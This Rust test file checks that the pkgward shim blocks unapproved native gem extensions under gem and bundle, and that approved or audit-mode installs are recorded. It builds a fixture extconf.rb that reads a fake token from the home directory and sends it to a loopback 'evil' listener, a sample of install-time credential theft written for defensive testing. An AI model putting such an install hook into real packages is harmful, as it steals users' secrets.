//! gem's install-time code end to end: the real `gem` behind the pkgward
//! shim against a gem source served on 127.0.0.1 (a static index built by
//! the real `gem build` and `gem generate_index`), with a fixture gem whose
//! native extension (`extconf.rb`) writes a marker and sends a fake token
//! read from `$HOME` to a loopback listener. Unapproved: the install is
//! denied before anything of the gem runs; approved: it installs, recorded.
//! Skipped (with a message) where Ruby is not installed; CI installs it.

mod support;

use std::ffi::OsString;
use std::path::Path;
use std::process::{Command, Output};
use std::sync::OnceLock;

use support::guard::{evil, pkgward_bin, text, Guarded};
use support::shared;
use support::tools::find_in_path;

fn ruby() -> bool {
    find_in_path("gem").is_some()
}

/// The fixture source URL, or `None` without Ruby.
fn gem_source() -> Option<String> {
    static DONE: OnceLock<bool> = OnceLock::new();
    let ok = *DONE.get_or_init(|| {
        if !ruby() {
            return false;
        }
        let tmp = tempfile::tempdir().unwrap();
        let src = tmp.path().join("src");
        let repo = tmp.path().join("repo");
        std::fs::create_dir_all(src.join("lib")).unwrap();
        std::fs::create_dir_all(src.join("ext/pwx")).unwrap();
        std::fs::create_dir_all(repo.join("gems")).unwrap();
        let spec = |name: &str, version: &str, extra: &str| {
            format!(
                "Gem::Specification.new do |s|\n  s.name = '{name}'\n  s.version = '{version}'\n  \
                 s.summary = 'pkgward fixture'\n  s.authors = ['pkgward']\n  s.license = 'MIT'\n{extra}end\n"
            )
        };
        let port = evil().port();
        // The extension: writes a marker, sends the token, then writes a
        // Makefile that builds nothing (so an approved install succeeds).
        std::fs::write(
            src.join("ext/pwx/extconf.rb"),
            format!(
                "d = ENV['FIXTURE_MARKER_DIR']\n\
                 File.write(File.join(d, 'gem-ext-ran'), \"ran\\n\") if d\n\
                 begin\n  require 'socket'\n  \
                 tok = File.read(File.join(Dir.home, '.fake-token')).strip rescue ''\n  \
                 s = TCPSocket.new('127.0.0.1', {port})\n  s.write(\"GET /gem?t=#{{tok}} HTTP/1.0\\r\\n\\r\\n\")\n  s.close\n\
                 rescue StandardError\nend\n\
                 File.write('Makefile', \"all:\\n\\ninstall:\\n\\nclean:\\n\")\n"
            ),
        )
        .unwrap();
        std::fs::write(src.join("lib/pw_scr.rb"), "module PwScr; VALUE = 1; end\n").unwrap();
        std::fs::write(
            src.join("ext.gemspec"),
            spec(
                "pw-scr-ext",
                "1.0.0",
                "  s.files = ['lib/pw_scr.rb', 'ext/pwx/extconf.rb']\n  \
                 s.extensions = ['ext/pwx/extconf.rb']\n  s.add_dependency 'pw-scr-dep', '>= 1'\n",
            ),
        )
        .unwrap();
        std::fs::write(
            src.join("dep.gemspec"),
            spec("pw-scr-dep", "2.0.0", "  s.files = ['lib/pw_scr.rb']\n"),
        )
        .unwrap();
        std::fs::write(
            src.join("app.gemspec"),
            spec(
                "pw-scr-app",
                "1.0.0",
                "  s.files = ['lib/pw_scr.rb']\n  s.add_dependency 'pw-scr-ext', '>= 1'\n",
            ),
        )
        .unwrap();
        let gem = |args: &[&str], dir: &Path| {
            let out = Command::new("gem")
                .args(args)
                .current_dir(dir)
                .env("HOME", tmp.path())
                .env_remove("GEMRC")
                .output()
                .unwrap();
            assert!(out.status.success(), "gem {args:?}: {}", text(&out.stderr));
        };
        for (spec, file) in [
            ("ext.gemspec", "pw-scr-ext-1.0.0.gem"),
            ("dep.gemspec", "pw-scr-dep-2.0.0.gem"),
            ("app.gemspec", "pw-scr-app-1.0.0.gem"),
        ] {
            gem(&["build", spec], &src);
            std::fs::copy(src.join(file), repo.join("gems").join(file)).unwrap();
        }
        gem(&["generate_index", "-d", repo.to_str().unwrap()], &repo);
        let mut stack = vec![repo.clone()];
        while let Some(d) = stack.pop() {
            for e in std::fs::read_dir(&d).unwrap() {
                let p = e.unwrap().path();
                if p.is_dir() {
                    stack.push(p);
                } else {
                    let rel = p.strip_prefix(&repo).unwrap().to_string_lossy().into_owned();
                    shared().server.serve(
                        &format!("/gems-scr/{rel}"),
                        "application/octet-stream",
                        std::fs::read(&p).unwrap(),
                    );
                }
            }
        }
        true
    });
    ok.then(|| format!("{}/gems-scr/", shared().base_url()))
}

fn guarded(src: &str, mode: &str, allow: &[&str]) -> Guarded {
    let allow: Vec<String> = allow.iter().map(|a| format!("{a:?}")).collect();
    let g = Guarded::new(&format!(
        "mode = \"{mode}\"\n[registries]\nrubygems = [\"{src}\"]\n[scripts]\nallow = [{}]\n",
        allow.join(", ")
    ));
    std::os::unix::fs::symlink(pkgward_bin(), g.shims.join("gem")).unwrap();
    std::fs::write(g.sb.home.join(".fake-token"), format!("{}\n", token(&g))).unwrap();
    g
}

fn token(g: &Guarded) -> String {
    let name = g.sb.root().file_name().unwrap().to_string_lossy();
    format!(
        "tok-gem-{}",
        name.replace(|c: char| !c.is_ascii_alphanumeric(), "")
    )
}

fn token_sent(g: &Guarded) -> bool {
    let tok = token(g);
    evil().connections().iter().any(|c| c.text().contains(&tok))
}

fn gem_install(g: &Guarded, src: &str, name: &str) -> Output {
    gem_command(g, src, "install", name)
}

/// `gem COMMAND` (an install command) of `name` from `src` into the sandbox.
fn gem_command(g: &Guarded, src: &str, command: &str, name: &str) -> Output {
    let dir = g.sb.root().join("gemhome");
    let extra: Vec<(String, OsString)> = vec![("GEM_HOME".into(), dir.clone().into())];
    g.sb.command("gem", &[g.pkgward_env(), extra])
        .args([
            command,
            "--no-document",
            "--install-dir",
            dir.to_str().unwrap(),
            "--clear-sources",
            "--source",
            src,
            name,
        ])
        .output()
        .unwrap()
}

fn scripts(g: &Guarded) -> Vec<serde_json::Value> {
    g.audit()
        .into_iter()
        .filter(|r| r["kind"] == "script")
        .collect()
}

#[test]
fn unapproved_native_extension_denies_the_install_before_it_runs() {
    let Some(src) = gem_source() else {
        eprintln!("skipped: ruby is not installed");
        return;
    };
    let g = guarded(&src, "enforce", &[]);
    // Through a dependency: pw-scr-app needs pw-scr-ext.
    let out = gem_install(&g, &src, "pw-scr-app");
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(77), "{err}");
    assert!(
        err.contains("pkgward approve rubygems:pw-scr-ext@1.0.0"),
        "{err}"
    );
    assert!(err.contains("ext/pwx/extconf.rb"), "{err}");
    assert!(g.sb.marker("gem-ext-ran").is_none(), "the extension ran");
    assert!(!token_sent(&g), "the token reached the listener");
    assert!(!g
        .sb
        .root()
        .join("gemhome/gems")
        .join("pw-scr-ext-1.0.0")
        .exists());
    assert!(!g
        .sb
        .root()
        .join("gemhome/gems")
        .join("pw-scr-app-1.0.0")
        .exists());
    let recs = scripts(&g);
    let r = recs
        .iter()
        .find(|r| r["package"] == "pw-scr-ext")
        .unwrap_or_else(|| panic!("{recs:#?}"));
    assert_eq!(r["decision"], "deny");
    assert_eq!(r["script"], "extension");
    assert_eq!(r["command"], "ext/pwx/extconf.rb");
    assert_eq!(r["ran"], false);
    assert_eq!(r["ecosystem"], "rubygems");
    // A second try reads the cached metadata: still denied.
    let out = gem_install(&g, &src, "pw-scr-ext");
    assert_eq!(out.status.code(), Some(77), "{}", text(&out.stderr));
    assert!(g.sb.marker("gem-ext-ran").is_none());
    // `install` as RubyGems also accepts it (a unique prefix).
    let out = gem_command(&g, &src, "instal", "pw-scr-ext");
    assert_eq!(out.status.code(), Some(77), "{}", text(&out.stderr));
    assert!(g.sb.marker("gem-ext-ran").is_none(), "the extension ran");
    // Commands whose extensions are not read ahead are refused.
    for args in [
        &["update", "pw-scr-ext"][..],
        &["pristine", "pw-scr-ext"],
        &["install", "-g", "gem.deps.rb"],
    ] {
        let out =
            g.sb.command("gem", &[g.pkgward_env()])
                .args(args)
                .output()
                .unwrap();
        assert_eq!(
            out.status.code(),
            Some(77),
            "{args:?}: {}",
            text(&out.stderr)
        );
        let inv = g.last_invocation();
        let reasons = inv["decision"]["reasons"].as_array().unwrap();
        assert!(
            reasons.iter().any(|r| r["code"] == "gem-unchecked"),
            "{args:?}: {reasons:?}"
        );
    }
}

#[test]
fn approved_native_extension_installs_and_is_recorded() {
    let Some(src) = gem_source() else {
        eprintln!("skipped: ruby is not installed");
        return;
    };
    let g = guarded(&src, "enforce", &["rubygems:pw-scr-ext@1.0.0"]);
    let out = gem_install(&g, &src, "pw-scr-app");
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(
        g.sb.marker("gem-ext-ran").is_some(),
        "the approved extension did not build"
    );
    assert!(g
        .sb
        .root()
        .join("gemhome/gems/pw-scr-app-1.0.0/lib/pw_scr.rb")
        .is_file());
    let recs = scripts(&g);
    let r = recs.iter().find(|r| r["package"] == "pw-scr-ext").unwrap();
    assert_eq!(r["decision"], "approved");
    assert_eq!(r["ran"], true);
    assert_eq!(r["exit_code"], 0);
    assert!(
        r["approved_by"]
            .as_str()
            .unwrap()
            .starts_with("rubygems:pw-scr-ext@1.0.0 ("),
        "{r}"
    );
    // A plain gem is not recorded as install-time code.
    assert!(
        !recs.iter().any(|r| r["package"] == "pw-scr-dep"),
        "{recs:#?}"
    );
    // Commands without `--http-proxy` are not given it (RubyGems would
    // reject it as an invalid option). `pristine` may fetch: its source
    // comes from a gemrc.
    let rc = g.sb.root().join("gemrc");
    std::fs::write(&rc, format!(":sources:\n- {src}\n")).unwrap();
    let home: Vec<(String, OsString)> = vec![
        (
            "GEM_HOME".into(),
            g.sb.root().join("gemhome").into_os_string(),
        ),
        ("GEMRC".into(), rc.into_os_string()),
    ];
    for args in [
        &["pristine", "--no-extensions", "pw-scr-app"][..],
        &["contents", "pw-scr-app"],
    ] {
        let out =
            g.sb.command("gem", &[g.pkgward_env(), home.clone()])
                .args(args)
                .output()
                .unwrap();
        assert_eq!(
            out.status.code(),
            Some(0),
            "{args:?}: {}",
            text(&out.stderr)
        );
    }
}

#[test]
fn audit_mode_installs_and_records_would_deny() {
    let Some(src) = gem_source() else {
        eprintln!("skipped: ruby is not installed");
        return;
    };
    let g = guarded(&src, "audit", &[]);
    let out = gem_install(&g, &src, "pw-scr-ext");
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(g.sb.marker("gem-ext-ran").is_some());
    let recs = scripts(&g);
    let r = recs.iter().find(|r| r["package"] == "pw-scr-ext").unwrap();
    assert_eq!(r["decision"], "would-deny");
    assert_eq!(r["ran"], true);
}

// ---- bundle -------------------------------------------------------------------

/// `bundle install` through the shim in a project whose Gemfile names the
/// fixture source and `gems` (a vendor path inside the sandbox).
fn bundle_install(g: &Guarded, src: &str, gems: &[&str]) -> Output {
    if !g.shims.join("bundle").exists() {
        std::os::unix::fs::symlink(pkgward_bin(), g.shims.join("bundle")).unwrap();
    }
    let mut gemfile = format!("source {src:?}\n");
    for n in gems {
        gemfile.push_str(&format!("gem {n:?}\n"));
    }
    g.sb.write("Gemfile", gemfile);
    let _ = std::fs::remove_file(g.sb.work.join("Gemfile.lock"));
    let root = g.sb.root();
    let extra: Vec<(String, OsString)> = vec![
        ("BUNDLE_PATH".into(), root.join("vendor").into()),
        ("BUNDLE_USER_HOME".into(), root.join("bundle-home").into()),
        (
            "BUNDLE_APP_CONFIG".into(),
            root.join("bundle-config").into(),
        ),
        ("GEM_HOME".into(), root.join("gemhome").into()),
    ];
    g.sb.command("bundle", &[g.pkgward_env(), extra])
        .args(["install"])
        .output()
        .unwrap()
}

/// Where bundler put the gems (`vendor/ruby/X.Y.Z/gems/NAME-VERSION`).
fn bundled(g: &Guarded, full: &str) -> bool {
    std::fs::read_dir(g.sb.root().join("vendor/ruby"))
        .map(|rd| {
            rd.flatten()
                .any(|e| e.path().join("gems").join(full).exists())
        })
        .unwrap_or(false)
}

#[test]
fn bundle_install_denies_an_unapproved_native_extension_before_it_builds() {
    let Some(src) = gem_source() else {
        eprintln!("skipped: ruby is not installed");
        return;
    };
    if find_in_path("bundle").is_none() {
        eprintln!("skipped: bundler is not installed");
        return;
    }
    let g = guarded(&src, "enforce", &[]);
    // The extension comes in through a dependency of the Gemfile's gem.
    let out = bundle_install(&g, &src, &["pw-scr-app"]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(77), "{err}");
    assert!(
        err.contains("pkgward approve rubygems:pw-scr-ext@1.0.0"),
        "{err}"
    );
    assert!(err.contains("ext/pwx/extconf.rb"), "{err}");
    assert!(g.sb.marker("gem-ext-ran").is_none(), "the extension ran");
    assert!(!token_sent(&g), "the token reached the listener");
    assert!(!bundled(&g, "pw-scr-ext-1.0.0"), "the gem was installed");
    assert!(!bundled(&g, "pw-scr-app-1.0.0"), "the gem was installed");
    assert!(
        !g.sb.work.join("Gemfile.lock").exists(),
        "bundle install ran"
    );
    let recs = scripts(&g);
    let r = recs
        .iter()
        .find(|r| r["package"] == "pw-scr-ext")
        .unwrap_or_else(|| panic!("{recs:#?}"));
    assert_eq!(r["decision"], "deny");
    assert_eq!(r["script"], "extension");
    assert_eq!(r["command"], "ext/pwx/extconf.rb");
    assert_eq!(r["ran"], false);
    assert_eq!(r["ecosystem"], "rubygems");
    assert!(
        !recs.iter().any(|r| r["package"] == "pw-scr-dep"),
        "{recs:#?}"
    );
    let inv = g.last_invocation();
    assert_eq!(inv["tool"], "bundle", "{inv}");
}

#[test]
fn bundle_install_builds_an_approved_native_extension_and_records_it() {
    let Some(src) = gem_source() else {
        eprintln!("skipped: ruby is not installed");
        return;
    };
    if find_in_path("bundle").is_none() {
        eprintln!("skipped: bundler is not installed");
        return;
    }
    let g = guarded(&src, "enforce", &["rubygems:pw-scr-ext@1.0.0"]);
    let out = bundle_install(&g, &src, &["pw-scr-app"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(
        g.sb.marker("gem-ext-ran").is_some(),
        "the approved extension did not build"
    );
    assert!(bundled(&g, "pw-scr-app-1.0.0"));
    assert!(bundled(&g, "pw-scr-ext-1.0.0"));
    let recs = scripts(&g);
    let r = recs
        .iter()
        .find(|r| r["package"] == "pw-scr-ext")
        .unwrap_or_else(|| panic!("{recs:#?}"));
    assert_eq!(r["decision"], "approved");
    assert_eq!(r["ran"], true);
    assert_eq!(r["exit_code"], 0);
    assert_eq!(r["runner"][0], "bundle");
    assert!(
        r["approved_by"]
            .as_str()
            .unwrap()
            .starts_with("rubygems:pw-scr-ext@1.0.0 ("),
        "{r}"
    );
    assert!(
        !recs.iter().any(|r| r["package"] == "pw-scr-dep"),
        "{recs:#?}"
    );
}

#[test]
fn bundle_add_reads_the_added_gem_before_bundler_changes_anything() {
    let Some(src) = gem_source() else {
        eprintln!("skipped: ruby is not installed");
        return;
    };
    if find_in_path("bundle").is_none() {
        eprintln!("skipped: bundler is not installed");
        return;
    }
    let g = guarded(&src, "enforce", &[]);
    // A project with a plain gem installed; then `bundle add` of the one
    // with the extension.
    let out = bundle_install(&g, &src, &["pw-scr-dep"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let gemfile = std::fs::read_to_string(g.sb.work.join("Gemfile")).unwrap();
    let lock = std::fs::read_to_string(g.sb.work.join("Gemfile.lock")).unwrap();
    let root = g.sb.root();
    let extra: Vec<(String, OsString)> = vec![
        ("BUNDLE_PATH".into(), root.join("vendor").into()),
        ("BUNDLE_USER_HOME".into(), root.join("bundle-home").into()),
        (
            "BUNDLE_APP_CONFIG".into(),
            root.join("bundle-config").into(),
        ),
        ("GEM_HOME".into(), root.join("gemhome").into()),
    ];
    let out =
        g.sb.command("bundle", &[g.pkgward_env(), extra])
            .args(["add", "pw-scr-ext", "--version", "1.0.0"])
            .output()
            .unwrap();
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(77), "{err}");
    assert!(
        err.contains("pkgward approve rubygems:pw-scr-ext@1.0.0"),
        "{err}"
    );
    assert!(g.sb.marker("gem-ext-ran").is_none(), "the extension ran");
    assert!(!token_sent(&g), "the token reached the listener");
    assert!(!bundled(&g, "pw-scr-ext-1.0.0"));
    // The project's files are as they were, and no temporary file is left.
    assert_eq!(
        std::fs::read_to_string(g.sb.work.join("Gemfile")).unwrap(),
        gemfile
    );
    assert_eq!(
        std::fs::read_to_string(g.sb.work.join("Gemfile.lock")).unwrap(),
        lock
    );
    let left: Vec<String> = std::fs::read_dir(&g.sb.work)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".pkgward"))
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

/// A `.gem` file named on the command line is the user's own file, not the
/// registry's package of that name: a registry approval does not approve
/// its extension (the denial says so and names `@local`), `@local` does.
#[test]
fn a_local_gem_file_needs_a_local_approval() {
    let Some(src) = gem_source() else {
        eprintln!("skipped: ruby is not installed");
        return;
    };
    for (allow, approved) in [
        ("rubygems:pw-scr-ext", false),
        ("rubygems:pw-scr-ext@local", true),
    ] {
        let g = guarded(&src, "enforce", &[allow]);
        let file = g.sb.work.join("pw-scr-ext-1.0.0.gem");
        let got = std::process::Command::new("curl")
            .args(["-sf", "-o"])
            .arg(&file)
            .arg(format!("{src}gems/pw-scr-ext-1.0.0.gem"))
            .status()
            .unwrap();
        assert!(got.success(), "fetching the fixture .gem");
        let out = gem_install(&g, &src, file.to_str().unwrap());
        let err = text(&out.stderr);
        if approved {
            assert_eq!(out.status.code(), Some(0), "{allow}: {err}");
            assert!(g.sb.marker("gem-ext-ran").is_some(), "{allow}: {err}");
        } else {
            assert_eq!(out.status.code(), Some(77), "{allow}: {err}");
            assert!(g.sb.marker("gem-ext-ran").is_none(), "{allow}: {err}");
            assert!(
                err.contains("pkgward approve rubygems:pw-scr-ext@local"),
                "{err}"
            );
            assert!(err.contains("approves the registry package only"), "{err}");
        }
    }
}
